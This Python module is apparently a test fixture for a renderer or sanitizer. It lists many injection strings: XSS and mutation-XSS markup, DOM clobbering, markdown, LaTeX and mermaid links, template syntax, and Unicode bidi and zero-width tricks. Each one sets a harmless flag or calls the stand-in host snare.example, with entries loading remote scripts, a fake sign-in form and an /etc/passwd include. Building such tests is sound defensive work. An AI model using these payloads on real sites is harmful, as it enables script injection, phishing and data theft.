"""Strings that would do something on a page that took them for more than words.

Whatever runs sets `window.ran`, whatever is fetched or followed leads to `snare.example`.
"""

# ruff: noqa: E501 - a string stays in one piece
from __future__ import annotations

SNARE = "snare.example"

MARKUP = (
    "<script>window.ran=1</script><script src=//snare.example/a.js></script>",
    "<img src=https://snare.example/b.png onerror=window.ran=1 onload=window.ran=1>",
    "'\"><img src=x:y onerror='window.ran=1'><b title=\"",
    "<details open ontoggle=window.ran=1><summary onfocus=window.ran=1 autofocus tabindex=1>more</summary>",
    "<svg onload=window.ran=1><use href=https://snare.example/c.svg#d></use><animate onbegin=window.ran=1>",
    "<svg><style><img src=https://snare.example/e onerror=window.ran=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x:y onerror=window.ran=1>'>",
    "<math href=javascript:window.ran=1><maction actiontype=statusline xlink:href=https://snare.example/f>g",
    "<svg><foreignObject><iframe src=https://snare.example/h></iframe></foreignObject><a xlink:href=x:i>j",
    "<noscript><p title='</noscript><img src=x:y onerror=window.ran=1>'></noscript>",
    "<template><script>window.ran=1</script></template><plaintext>",
    "<iframe srcdoc='<script>parent.window.ran=1</script>' src=https://snare.example/k></iframe>",
    "<object data=https://snare.example/l></object><embed src=https://snare.example/m><applet code=n>",
    "<form action=https://snare.example/o method=post><input name=p autofocus><button>Sign in</button></form>",
    "</form></p></li></ul></div></article></mark></dialog><h1>Breaking</h1><button>Ask</button>",
    "<base href=https://snare.example/q/><a href=r>first</a>",
    "<meta http-equiv=refresh content='0;url=https://snare.example/s'>",
    "<link rel=stylesheet href=https://snare.example/t.css><link rel=prefetch href=//snare.example/u>",
    "<style>@import url(https://snare.example/v.css);*{display:none!important}#send{opacity:0}</style>",
    "<video autoplay poster=https://snare.example/w.png src=https://snare.example/x.mp4 onerror=window.ran=1>",
    "<audio src=https://snare.example/y.mp3 onerror=window.ran=1></audio><bgsound src=//snare.example/z>",
    "<input type=image src=https://snare.example/i.png onfocus=window.ran=1 autofocus><marquee onstart=ran=1>",
    "<a href='javascript:window.ran=1'>one</a><a href='java\tscript:window.ran=1'>two</a>",
    "<a href='data:text/html,<script>opener.ran=1</script>' target=_top>three</a><a href=vbscript:ran>four</a>",
    "<a href=https://snare.example/five ping=https://snare.example/six download>five</a>",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:url(https://snare.example/bg)'>log in</div>",
    "<p style=\"width:100vw;height:100vh;position:absolute;top:0;font-family:'x';content:url(//snare.example/co)\">",
    "</script></style></title></textarea></noscript><script>window.ran=1</script>",
    "--></script><!--<script>]]>window.ran=1<!--",
    "&lt;img src=https://snare.example/twice onerror=window.ran=1&gt; &amp;lt;script&amp;gt;window.ran=1",
    "&#60;script&#62;window.ran=1&#x3c;/script> &NotARealEntity; &quot; onmouseover=&quot;window.ran=1",
)
CLOBBERING = (
    "<a id=reader></a><a id=send></a><aside id=reader>false</aside><form id=question><textarea>t</textarea></form>",
    "<a class=record href=#eNoDAAAAAAE>r</a><div class=answer><a class=act href=#export>Export</a></div>",
    "<form name=dateline><input name=open><input name=querySelector></form><img name=querySelector>",
    "<form name=querySelectorAll></form><input name=body><a id=dateline name=words href=x:y></a>",
    "<script type=application/json id=words>{}</script><template id=shell>none</template>",
    "<a class=cite href='/article/0123456789abcdef?chosen=0-9'>[1]</a> <a href=#copy class=act>Copy</a>",
    "/article/0123456789abcdef?version=fedcba9876543210&marks=0-5 #ask #copy #unhelpful [1] [2] [99]",
)
LIGHT_MARKUP = (
    "![picture](https://snare.example/md.png) [words](https://snare.example/md) [x](javascript:window.ran=1)",
    "[one][ref] ![two][ref]\n\n[ref]: https://snare.example/ref 'title'\n[js]: javascript:window.ran=1",
    "<https://snare.example/auto> https://snare.example/bare www.snare.example mail@snare.example",
    "# Heading\n> quoted\n\n* item\n1. item\n\n---\n\n| a | b |\n|---|---|\n| **c** | `d` |",
    "$\\href{javascript:window.ran=1}{x}$ $$\\includegraphics{https://snare.example/tex.png}$$ \\(\\url{x}\\) $3m",
    "\\begin{equation}\\htmlData{onclick=window.ran=1}{y}\\end{equation} \\[\\input{/etc/passwd}\\] $5m and $6m",
    '```mermaid\ngraph TD; A["<img src=x:y onerror=window.ran=1>"] --> B; click A href "javascript:ran"\n```',
    "```html\n<script>window.ran=1</script>\n```\n~~~js\nwindow.ran=1\n~~~\n    indented <b>code</b>",
    "{{window.ran=1}} ${window.ran=1} <%= ran %> {% raw %} {0} {question} #{ran} [[ran]] {count:,}",
    "%s %(name)s \\u003cscript\\u003ewindow.ran=1 \\x3cimg\\x3e %3Cscript%3Ewindow.ran=1%3C/script%3E",
)
SIGNS = (
    "\u202egnp.elpmaxe.erans\u202c \u202d\u202anested\u2066\u2067isolated\u2068 left open",
    "\u2069\u2069\u2069closed too often\u202c\u202c \u200f\u200e\u061c marks",
    "z\u200be\u200cr\u200do\u2060 wi\ufeffd\u00adth <scr\u200bipt>window.ran=1</scr\u200bipt>",
    "tags \U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f and \ufe0f\U000e0100 selectors",
    "lone \ud83d half \ude00 other <img src=https://snare.example/\ud800 onerror=window.ran=1>",
    "nul \x00 <scr\x00ipt>window.ran=1</scr\x00ipt> <img\x00src=https://snare.example/nul> \x01\x08\x1b[31m\x7f",
    "line\u2028separator\u2029paragraph\x85next\x0b\x0cfeed\r\nreturn\r <p\x0conclick=window.ran=1>",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e \u2039img\u203a \u02ba onerror=\u02ba \ufe64b\ufe65",
    "W" * 5000,
    "\u0645\u0631\u062d\u0628\u0627 " * 40 + "\u05e9\u05dc\u05d5\u05dd (<b>1</b>) [1] 12:30",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e" * 60,
    "\ufdfd" * 200 + " \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062",
)
HOSTILE = (*MARKUP, *CLOBBERING, *LIGHT_MARKUP, *SIGNS)
